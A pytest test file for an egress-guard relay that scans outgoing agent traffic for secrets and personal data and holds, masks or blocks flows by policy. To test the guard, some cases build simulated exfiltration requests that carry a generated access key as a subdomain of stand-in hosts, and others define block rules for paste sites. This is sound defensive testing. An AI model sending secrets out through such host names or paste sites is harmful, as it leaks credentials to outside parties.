"""relay.py, playbook style: feed events to a Relay, assert the exact commands that come out.

Real collaborators only: the built-in detector pack in a real ScanEngine, a real Policy built
from YAML with config_from_text, the real mask_span. Test secrets come from scan_samples (built
at run time). Assertions about bytes that contain a secret compare lengths, offsets or
equality with a short id message, so a failure never prints the secret.
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

import pytest

from egressguard.config import config_from_text
from egressguard.model import Action, Decision, Destination, FlowInfo, FlowState, Process
from egressguard.policy.evaluate import Policy
from egressguard.relay import (ConnectUpstream, Emit, HalfCloseUpstream, Hold, Phase, Relay,
                               Reset, SendUpstream)
from egressguard.scan.engine import ScanEngine
from egressguard.scan.mask import mask_span
from egressguard.scan.pack import load_pack
from egressguard.scan.redact import redact_bytes

sys.path.insert(0, str(Path(__file__).parent))   # scan_samples, test_sniff

from scan_samples import ALNUM, rand, true_positives  # noqa: E402
from test_sniff import real_client_hello  # noqa: E402

ENGINE = ScanEngine(load_pack(None), b"relay-test-key")
SAMPLES = {s.name: s for s in true_positives(21)}
AGENT = Process(pid=4242, uid=1000, comm="python3", exe="/usr/bin/python3")
DEST = Destination("198.51.100.10", 443)
PASTE = Destination("203.0.113.7", 443)
APPROVE = Decision(approved=True, by_uid=1001, by_user="alice", reason="ok")
DENY = Decision(approved=False, by_uid=1001, by_user="alice", reason="no")
OPEN = Emit("flow.open", {})


def policy(rules: str = "", default: str = "allow") -> Policy:
    text = ("scope: {cgroup: /agents}\napprovals: {approvers: [0]}\n"
            f"default_action: {default}\nrules:\n{rules or '  []'}\n")
    if not rules:
        text = text.replace("rules:\n  []\n", "rules: []\n")
    return Policy.from_config(config_from_text(text, resolve_user=lambda name: None))


HOLD_SECRETS = "  - {name: ask-secrets, detected: [secret], action: hold}\n"
MASK_EMAIL = "  - {name: mask-mail, detected: [pii.email], action: mask}\n"
BLOCK_SSN = "  - {name: no-ssn, detected: [pii.us_ssn], action: block}\n"
BLOCK_PASTE_HOST = ("  - {name: no-paste, destination: {host: ['*.pastebin.com']}, "
                    "action: block}\n")


def relay(pol: Policy, dest: Destination = DEST) -> Relay:
    flow = FlowInfo("flow-1", AGENT, dest, opened_at=0.0)
    return Relay(flow=flow, policy=pol, stream=ENGINE.open_stream(), masker=mask_span)


def sent(cmds: list) -> bytes:
    return b"".join(c.data for c in cmds if isinstance(c, SendUpstream))


def shape(cmds: list) -> list[str]:
    """Command kinds in order (Emit as its event name, SendUpstream as its length)."""
    out = []
    for c in cmds:
        if isinstance(c, Emit):
            out.append(c.event)
        elif isinstance(c, SendUpstream):
            out.append(f"send:{len(c.data)}")
        else:
            out.append(type(c).__name__)
    return out


def prose(n: int, seed: int = 0) -> bytes:
    rng = random.Random(seed)
    words = ["alpha", "beta", "gamma", "delta", "the", "a", "of", "and", "ok"]
    return (" ".join(rng.choice(words) for _ in range(n // 3)).encode() + b"\n" * n)[:n]


def connected(pol: Policy, dest: Destination = DEST) -> Relay:
    r = relay(pol, dest)
    assert r.start() == [OPEN, ConnectUpstream()]
    assert r.upstream_connected() == []
    return r


class Wire:
    """Everything the relay sent upstream, and the commands it gave, across events."""

    def __init__(self) -> None:
        self.data = bytearray()
        self.cmds: list = []

    def __call__(self, cmds: list) -> list:
        self.cmds += cmds
        self.data += sent(cmds)
        return cmds


# ---------------------------------------------------------------------------- allow

def test_allow_forwards_only_safe_bytes_then_everything_at_eof() -> None:
    r = connected(policy())
    data = prose(20_000)
    wire = Wire()
    for i in range(0, len(data), 1500):
        before = r.forwarded
        cmds = wire(r.client_data(data[i:i + 1500]))
        safe = r.stream.safe_offset
        # exactly the bytes between what was forwarded and the new safe_offset, in one send
        assert cmds == ([SendUpstream(data[before:safe])] if safe > before else [])
    assert len(wire.data) == r.stream.total - ENGINE.hold_back
    cmds = wire(r.client_eof())
    assert shape(cmds) == [f"send:{ENGINE.hold_back}", "HalfCloseUpstream"]
    assert bytes(wire.data) == data
    assert r.client_eof() == []                       # once only
    assert r.flow.state is FlowState.FORWARDING


def test_eof_before_upstream_connects_sends_all_and_half_closes_once() -> None:
    r = relay(policy())
    assert r.start() == [OPEN, ConnectUpstream()]
    assert r.client_data(b"GET / HTTP/1.0\r\n\r\n") == []
    assert r.client_eof() == []                       # not connected yet: nothing to do
    assert r.upstream_connected() == [SendUpstream(b"GET / HTTP/1.0\r\n\r\n"),
                                      HalfCloseUpstream()]
    assert r.client_idle(True) == [] and r.client_eof() == []


# ---------------------------------------------------------------------------- connect-time

def test_connect_time_block_never_connects() -> None:
    r = relay(policy("  - {name: no-doc-net, destination: {cidr: [198.51.100.0/24]}, "
                     "action: block}\n"))
    cmds = r.start()
    assert shape(cmds) == ["flow.open", "flow.block", "Reset"]
    assert cmds[1].fields["verdict"]["rule"] == "no-doc-net"
    assert r.phase is Phase.CLOSED
    assert r.client_data(b"hello") == [] and r.client_eof() == [] and r.client_idle(True) == []


HOLD_DEST = "  - {name: ask-first, destination: {port: [443]}, action: hold}\n"


def test_connect_time_hold_then_approved_sends_everything_byte_exact() -> None:
    r = relay(policy(HOLD_DEST))
    cmds = r.start()
    assert cmds == [OPEN, Hold(cmds[1].verdict, ())]
    assert cmds[1].verdict.action is Action.HOLD and cmds[1].verdict.rule == "ask-first"
    data = prose(9000, seed=3)
    assert r.client_data(data[:5000]) == []
    assert r.client_idle(False) == [] and r.client_idle(True) == []
    assert r.decided(APPROVE) == [ConnectUpstream()]
    assert r.client_data(data[5000:]) == []           # connecting: nothing goes out yet
    wire = Wire()
    wire(r.upstream_connected())
    wire(r.client_eof())
    assert shape(wire.cmds)[-1] == "HalfCloseUpstream"
    assert bytes(wire.data) == data
    assert r.flow.state is FlowState.FORWARDING


def test_connect_time_hold_denied_resets_and_never_sends() -> None:
    r = relay(policy(HOLD_DEST))
    r.start()
    r.client_data(prose(6000))
    r.client_eof()
    cmds = r.decided(DENY)
    assert cmds == [Reset("denied by alice")]
    assert r.flow.state is FlowState.DENIED
    assert r.upstream_connected() == [] and r.client_data(b"x") == []


def test_connect_time_hold_expired() -> None:
    r = relay(policy(HOLD_DEST))
    r.start()
    assert r.decided(Decision(False, 0, "", "timeout", timed_out=True)) == [Reset("hold expired")]
    assert r.flow.state is FlowState.EXPIRED


# ---------------------------------------------------------------------------- content

def secret_in_middle(name: str = "aws-id") -> tuple[bytes, int, int]:
    s = SAMPLES[name]
    before, after = prose(6000, 1) + b" ", b" " + prose(6000, 2)
    return before + s.value + after, len(before), len(before) + len(s.value)


def test_content_hold_keeps_the_secret_then_approval_sends_the_rest_once() -> None:
    r = connected(policy(HOLD_SECRETS))
    data, lo, hi = secret_in_middle()
    wire = Wire()
    held_at = None
    for i in range(0, len(data), 700):
        cmds = wire(r.client_data(data[i:i + 700]))
        if any(isinstance(c, Hold) for c in cmds):
            held_at = len(wire.cmds)
            assert shape(cmds)[-2:] == ["flow.detect", "Hold"]
        assert len(wire.data) <= lo, "secret bytes forwarded before approval"
    assert held_at is not None
    wire(r.client_idle(False))
    wire(r.client_idle(True))
    wire(r.client_eof())
    assert len(wire.data) <= lo and not any(isinstance(c, HalfCloseUpstream) for c in wire.cmds)
    assert r.flow.state is FlowState.HELD
    cmds = wire(r.decided(APPROVE))
    assert shape(cmds) == [f"send:{len(data) - len(wire.data) + len(sent(cmds))}",
                           "HalfCloseUpstream"]
    assert bytes(wire.data) == data, "approved flow not byte-exact"
    assert [c for c in wire.cmds if isinstance(c, Hold)][0].detections[0].start == lo


def test_content_hold_denied_resets() -> None:
    r = connected(policy(HOLD_SECRETS))
    data, lo, _ = secret_in_middle("github-ghp")
    wire = Wire()
    wire(r.client_data(data))
    assert len(wire.data) <= lo
    assert r.decided(DENY) == [Reset("denied by alice")]
    assert r.client_data(b"more") == [] and r.client_eof() == []


def test_mask_rewrites_only_the_email_same_length() -> None:
    r = connected(policy(MASK_EMAIL))
    s = SAMPLES["email"]
    data = prose(5000) + s.text + prose(5000, 9)
    lo, hi = 5000 + s.start, 5000 + s.end
    wire = Wire()
    for i in range(0, len(data), 999):
        wire(r.client_data(data[i:i + 999]))
    wire(r.client_eof())
    expected = data[:lo] + mask_span(data[lo:hi], "pii.email") + data[hi:]
    assert len(wire.data) == len(data)
    assert bytes(wire.data) == expected, "masked output differs"
    assert bytes(wire.data[lo:hi]) != data[lo:hi]
    (detect,) = [c for c in wire.cmds if isinstance(c, Emit) and c.event == "flow.detect"]
    assert detect.fields["verdict"]["action"] == "mask"
    assert [m["offset"] for m in detect.fields["masked"]] == [lo]


def test_block_on_content_resets_before_the_secret_goes_out() -> None:
    r = connected(policy("  - {name: no-keys, detected: [secret.*], action: block}\n"))
    data, lo, _ = secret_in_middle("stripe-live")
    wire = Wire()
    for i in range(0, len(data), 1024):
        wire(r.client_data(data[i:i + 1024]))
    assert shape(wire.cmds)[-3:] == ["flow.detect", "flow.block", "Reset"]
    assert len(wire.data) <= lo
    assert r.flow.state is FlowState.BLOCKED
    assert r.client_eof() == []


# ---------------------------------------------------------------------------- hosts

@pytest.fixture(scope="module")
def hello_paste() -> bytes:
    return real_client_hello("eu.pastebin.com")


@pytest.fixture(scope="module")
def hello_ok() -> bytes:
    return real_client_hello("api.example.test")


def test_host_rule_waits_for_sni_then_blocks_without_connecting(hello_paste: bytes) -> None:
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    assert r.start() == [OPEN]
    assert r.client_data(hello_paste[:40]) == []          # partial ClientHello: keep waiting
    cmds = r.client_data(hello_paste[40:])
    assert shape(cmds) == ["flow.block", "Reset"]
    assert r.flow.destination.host == "eu.pastebin.com"


def test_host_rule_other_sni_connects_and_forwards(hello_ok: bytes) -> None:
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    assert r.start() == [OPEN]
    assert r.client_idle(False) == [] and r.client_idle(True) == []   # sniffing: no-op
    assert r.client_data(hello_ok[:10]) == []
    assert r.client_data(hello_ok[10:]) == [ConnectUpstream()]
    assert r.flow.destination.host == "api.example.test"
    wire = Wire()
    wire(r.upstream_connected())
    wire(r.client_eof())
    assert bytes(wire.data) == hello_ok and shape(wire.cmds)[-1] == "HalfCloseUpstream"


def test_host_rule_http_host_header_blocks() -> None:
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    r.start()
    assert r.client_data(b"POST /api HTTP/1.1\r\nHo") == []
    cmds = r.client_data(b"st: EU.PasteBin.com\r\n\r\n")
    assert shape(cmds) == ["flow.block", "Reset"]


def test_sniff_timeout_decides_without_host() -> None:
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    r.start()
    assert r.sniff_timeout() == [ConnectUpstream()]
    assert r.sniff_timeout() == []
    assert r.flow.destination.host == ""


def test_sniff_timeout_after_a_partial_head_still_records_the_host_later() -> None:
    # Regression: after the timeout the relay went on sniffing from the NEXT chunk only, so
    # the rest of a head that had started before the timeout never yielded the name.
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    r.start()
    assert r.client_data(b"GET / HTTP/1.1\r\nHo") == []
    assert r.sniff_timeout() == [ConnectUpstream()]
    r.client_data(b"st: api.example.test\r\n\r\n")
    assert r.flow.destination.host == "api.example.test"


def test_eof_while_sniffing_decides_and_finishes() -> None:
    r = relay(policy(BLOCK_PASTE_HOST), PASTE)
    r.start()
    r.client_data(b"GET / HTTP/1.1\r\n")
    assert r.client_eof() == [ConnectUpstream()]
    assert r.upstream_connected() == [SendUpstream(b"GET / HTTP/1.1\r\n"), HalfCloseUpstream()]


def test_host_is_recorded_even_when_no_rule_needs_it(hello_ok: bytes) -> None:
    r = connected(policy())
    assert r.policy.needs_host is False
    r.client_data(b"GET / HTTP/1.1\r\nHost: www.example.test:8080\r\n\r\n")
    assert r.flow.destination.host == "www.example.test"
    r2 = connected(policy())
    r2.client_data(hello_ok[:50])
    r2.client_data(hello_ok[50:])
    assert r2.flow.destination.host == "api.example.test"


def test_a_secret_carried_in_the_host_name_is_masked_where_it_is_recorded(
        hello_ok: bytes) -> None:
    # `<key>.attacker.example` as Host: the name goes to the audit log and egressctl. The
    # sniffer lower-cases it, so a masker that looked at the name alone would miss it.
    key = SAMPLES["aws-id"].value.decode()
    r = Relay(flow=FlowInfo("flow-1", AGENT, DEST, opened_at=0.0),
              policy=policy(HOLD_SECRETS + BLOCK_PASTE_HOST), stream=ENGINE.open_stream(),
              masker=mask_span, redact=lambda data: redact_bytes(ENGINE, data))
    r.start()
    # The same name in lower case first (the request target), then as sent in the Host header.
    cmds = r.client_data(f"GET http://{key.lower()}.exfil.test/ HTTP/1.1\r\n"
                         f"Host: {key}.exfil.test\r\n\r\n".encode())
    recorded = r.flow.destination.host
    assert recorded.endswith(".exfil.test") and len(recorded) == len(key) + len(".exfil.test")
    assert key.lower() not in recorded and key[4:].lower() not in recorded, "key in the name"
    assert recorded.startswith("akia****")
    assert any(isinstance(c, Hold) for c in cmds)          # the payload itself is still held
    # Masking keeps host globs working, and a name without a finding is left alone.
    r2 = Relay(flow=FlowInfo("flow-2", AGENT, DEST, opened_at=0.0),
               policy=policy(HOLD_SECRETS + BLOCK_PASTE_HOST), stream=ENGINE.open_stream(),
               masker=mask_span, redact=lambda data: redact_bytes(ENGINE, data))
    r2.start()
    cmds = r2.client_data(f"GET / HTTP/1.1\r\nHost: {key}.pastebin.com\r\n\r\n".encode())
    assert "flow.block" in shape(cmds) and key.lower() not in r2.flow.destination.host
    r3 = Relay(flow=FlowInfo("flow-3", AGENT, DEST, opened_at=0.0), policy=policy(),
               stream=ENGINE.open_stream(), masker=mask_span,
               redact=lambda data: redact_bytes(ENGINE, data))
    r3.start()
    r3.client_data(hello_ok)
    assert r3.flow.destination.host == "api.example.test"
    # The same for TLS: the key as an SNI label, in a real ClientHello.
    r4 = Relay(flow=FlowInfo("flow-4", AGENT, DEST, opened_at=0.0), policy=policy(),
               stream=ENGINE.open_stream(), masker=mask_span,
               redact=lambda data: redact_bytes(ENGINE, data))
    r4.start()
    r4.client_data(real_client_hello(f"{key}.exfil.test"))
    sni = r4.flow.destination.host
    assert sni.endswith(".exfil.test") and sni.startswith("akia****"), "SNI not recorded masked"


# ---------------------------------------------------------------------------- after approval

def test_after_approval_the_same_secret_again_is_recorded_not_held_again() -> None:
    # Keep-alive: the approved request is sent a second time on the same connection.
    r = connected(policy(HOLD_SECRETS))
    first, _, _ = secret_in_middle("aws-id")
    wire = Wire()
    wire(r.client_data(first))
    assert sum(isinstance(c, Hold) for c in wire.cmds) == 1
    wire(r.decided(APPROVE))
    n = len(wire.cmds)
    wire(r.client_data(first))
    wire(r.client_eof())
    new = wire.cmds[n:]
    assert not any(isinstance(c, (Hold, Reset)) for c in new)
    detects = [c for c in new if isinstance(c, Emit) and c.event == "flow.detect"]
    assert [d["detector"] for c in detects for d in c.fields["detections"]] == \
        ["secret.aws_access_key_id"]
    assert detects[0].fields["verdict"]["action"] == "allow"
    assert "covered by the approval" in detects[0].fields["verdict"]["reason"]
    assert bytes(wire.data) == first + first, "approved flow not byte-exact"


def test_after_approval_a_different_secret_is_held_before_any_of_it_leaves() -> None:
    # Red-team finding: one approval used to release every later secret on the connection.
    r = connected(policy(HOLD_SECRETS))
    first, _, _ = secret_in_middle("aws-id")
    gh = SAMPLES["github-ghp"].value
    later = b" " + gh + b" " + prose(5000, 4)
    wire = Wire()
    wire(r.client_data(first))
    wire(r.decided(APPROVE))
    sent_before = len(wire.data)
    n = len(wire.cmds)
    wire(r.client_data(later))
    holds = [c for c in wire.cmds[n:] if isinstance(c, Hold)]
    assert len(holds) == 1, "a second, different secret must be asked about"
    assert [d.detector for d in holds[0].detections] == ["secret.github_token"]
    assert gh not in bytes(wire.data), "the unapproved token left before its hold was decided"
    assert r.phase is Phase.HELD
    wire(r.client_eof())
    assert len(wire.data) == sent_before
    wire(r.decided(APPROVE))
    assert bytes(wire.data) == first + later, "twice-approved flow not byte-exact"


def test_a_secret_found_while_the_hold_is_open_is_asked_about_after_the_approval() -> None:
    # The approver saw only the first finding; approving it must not release the second.
    r = connected(policy(HOLD_SECRETS))
    first, _, _ = secret_in_middle("aws-id")
    gh = SAMPLES["github-ghp"].value
    wire = Wire()
    wire(r.client_data(first))
    n = len(wire.cmds)
    wire(r.client_data(b" " + gh + b" " + prose(5000, 6)))
    assert not any(isinstance(c, Hold) for c in wire.cmds[n:]), "one open hold at a time"
    wire(r.client_data(b" " + SAMPLES["aws-id"].value + b" " + prose(5000, 7)))
    n = len(wire.cmds)
    wire(r.decided(APPROVE))
    again = [c for c in wire.cmds[n:] if isinstance(c, Hold)]
    assert len(again) == 1 and [d.detector for d in again[0].detections] == \
        ["secret.github_token"], "only the unshown finding is asked about"
    assert wire.data == b"", "nothing may leave while an unshown finding waits"
    wire(r.decided(DENY))
    assert wire.data == b"" and r.flow.state is FlowState.DENIED


def test_after_approval_a_block_class_finding_still_blocks() -> None:
    r = connected(policy(BLOCK_SSN + HOLD_SECRETS))
    first, lo, _ = secret_in_middle("aws-id")
    r.client_data(first)
    r.decided(APPROVE)
    ssn = SAMPLES["ssn"]
    cmds = r.client_data(prose(200) + ssn.text + prose(6000, 5))
    assert shape(cmds)[-3:] == ["flow.detect", "flow.block", "Reset"]
    assert r.flow.state is FlowState.BLOCKED


def test_content_hold_while_connecting_does_not_connect_twice() -> None:
    # Regression: a hold opened after ConnectUpstream but before upstream_connected, approved
    # before the connection completed, asked for a SECOND ConnectUpstream.
    r = relay(policy(HOLD_SECRETS))
    assert r.start() == [OPEN, ConnectUpstream()]
    data, lo, _ = secret_in_middle("aws-id")
    cmds = r.client_data(data)
    assert shape(cmds)[-1] == "Hold"
    assert r.decided(APPROVE) == []
    wire = Wire()
    wire(r.upstream_connected())
    wire(r.client_eof())
    assert bytes(wire.data) == data
    assert shape(wire.cmds)[-1] == "HalfCloseUpstream"


# ---------------------------------------------------------------------------- never stalls

HEAD = b"POST /v1/messages HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 99\r\n\r\n"


@pytest.mark.parametrize("body", [b'{"prompt": "say hello world"}', b"hello world\n",
                                  b"a=1&b=2\r\n"])
def test_request_ending_in_ordinary_text_is_sent_at_the_first_idle(body: bytes) -> None:
    r = connected(policy(HOLD_SECRETS + MASK_EMAIL))
    assert r.client_data(HEAD + body) == []
    assert r.client_idle(False) == [SendUpstream(HEAD + body)]


def test_request_ending_in_a_word_is_sent_at_final_idle() -> None:
    # "world" could still become "world@example.com": the non-final flush keeps it (the
    # guarantee: nothing that could become a finding goes out early); the final one sends it.
    r = connected(policy(HOLD_SECRETS + MASK_EMAIL))
    req = HEAD + b"hello world"
    r.client_data(req)
    assert r.client_idle(False) == [SendUpstream(req[:-5])]
    assert r.client_idle(True) == [SendUpstream(b"world")]


def test_request_ending_in_an_email_is_masked_and_sent_at_final_idle() -> None:
    r = connected(policy(HOLD_SECRETS + MASK_EMAIL))
    mail = SAMPLES["email-angle"].value
    req = HEAD + b"reply to " + mail
    assert r.client_data(req) == []
    assert r.client_idle(False) == []             # undecided: nothing, not even the head
    cmds = r.client_idle(True)
    assert shape(cmds) == ["flow.detect", f"send:{len(req)}"]
    assert sent(cmds) == req[:-len(mail)] + mask_span(mail, "pii.email"), "masked request differs"


def test_request_ending_in_a_partial_anthropic_key_is_held_by_both_idles() -> None:
    r = connected(policy(HOLD_SECRETS))
    part = b"sk-" + b"ant-" + rand(random.Random(8), ALNUM, 20).encode()
    req = HEAD + b"key=" + part
    wire = Wire()
    wire(r.client_data(req))
    wire(r.client_idle(False))
    wire(r.client_idle(True))
    assert bytes(wire.data) == req[:-len(part)]
    rest = rand(random.Random(9), ALNUM, 30).encode() + b"\r\n"
    wire(r.client_data(rest))
    assert shape(wire.cmds)[-2:] == ["flow.detect", "Hold"]
    assert bytes(wire.data) == req[:-len(part)]


def test_request_ending_in_a_whole_key_is_held_for_approval_then_sent() -> None:
    r = connected(policy(HOLD_SECRETS))
    key = SAMPLES["anthropic"].value
    req = HEAD + b"key=" + key
    wire = Wire()
    wire(r.client_data(req))
    wire(r.client_idle(False))
    wire(r.client_idle(True))
    assert shape(wire.cmds)[-2:] == ["flow.detect", "Hold"]
    assert len(wire.data) <= len(req) - len(key)
    wire(r.decided(APPROVE))
    assert bytes(wire.data) == req, "approved request not sent whole"


def test_email_split_by_a_long_pause_masks_the_rest() -> None:
    # The documented limit: the part before a final flush went out unmasked. The rest of the
    # e-mail must still be masked, and only the rest (regression: a detection starting before
    # `forwarded` was masked at a negative offset, i.e. at the wrong bytes).
    r = connected(policy(MASK_EMAIL))
    wire = Wire()
    wire(r.client_data(HEAD + b"mail jane."))
    wire(r.client_idle(False))
    wire(r.client_idle(True))
    assert bytes(wire.data) == HEAD + b"mail jane."
    tail = b"doe@example.org please\r\n" + prose(100)
    wire(r.client_data(tail))
    wire(r.client_eof())
    assert len(wire.data) == len(HEAD) + 10 + len(tail)
    out = bytes(wire.data[len(HEAD) + 10:])
    assert out[:15] == b"***@example.org"          # the unsent rest of the local part masked
    assert out[15:] == tail[15:]


@pytest.mark.parametrize("already", [1, 4, 10, 19])
def test_mask_of_a_fragment_never_keeps_a_public_prefix(already: int) -> None:
    from egressguard.model import Detection
    from egressguard.relay import mask_detection
    value = SAMPLES["aws-id"].value                  # 20 bytes
    buf = bytearray(value[already:] + b" tail")
    det = Detection("secret.aws_access_key_id", "secret", 100, 120, "", "")
    mask_detection(buf, 100 + already, det, mask_span)
    assert bytes(buf) == b"*" * (20 - already) + b" tail"


def test_late_host_is_checked_before_any_byte_leaves() -> None:
    """A client that sends its request only after sniff_timeout must not slip past a host
    rule: the connect-time decision is taken again when the name arrives."""
    policy_text = """
scope: {cgroup: /t}
rules:
  - name: no-paste
    destination: {host: ["*.pastebin.com"]}
    action: block
"""
    from egressguard.config import config_from_text
    from egressguard.policy.evaluate import Policy
    from egressguard.model import Destination, FlowInfo, Process
    from egressguard.relay import ConnectUpstream, Relay, Reset, SendUpstream
    from egressguard.scan.engine import ScanEngine
    from egressguard.scan.mask import mask_span
    from egressguard.scan.pack import load_pack

    cfg = config_from_text(policy_text, "late.yaml", None, resolve_user=lambda n: None)
    flow = FlowInfo("f-late", Process(pid=1, uid=1000), Destination("127.66.0.1", 80), 0.0)
    relay = Relay(flow, Policy.from_config(cfg), ScanEngine(load_pack(None), b"k" * 32)
                  .open_stream(), mask_span)
    cmds = relay.start() + relay.sniff_timeout()
    assert any(isinstance(c, ConnectUpstream) for c in cmds)   # unknown host: allowed so far
    cmds += relay.upstream_connected()
    head = b"GET / HTTP/1.1\r\nHost: "
    cmds += relay.client_data(head)                            # name not complete yet
    assert not any(isinstance(c, SendUpstream) for c in cmds)
    cmds = relay.client_data(b"dump.pastebin.com\r\n\r\n")
    assert any(isinstance(c, Reset) for c in cmds)
    assert not any(isinstance(c, SendUpstream) for c in cmds)
    assert flow.destination.host == "dump.pastebin.com"
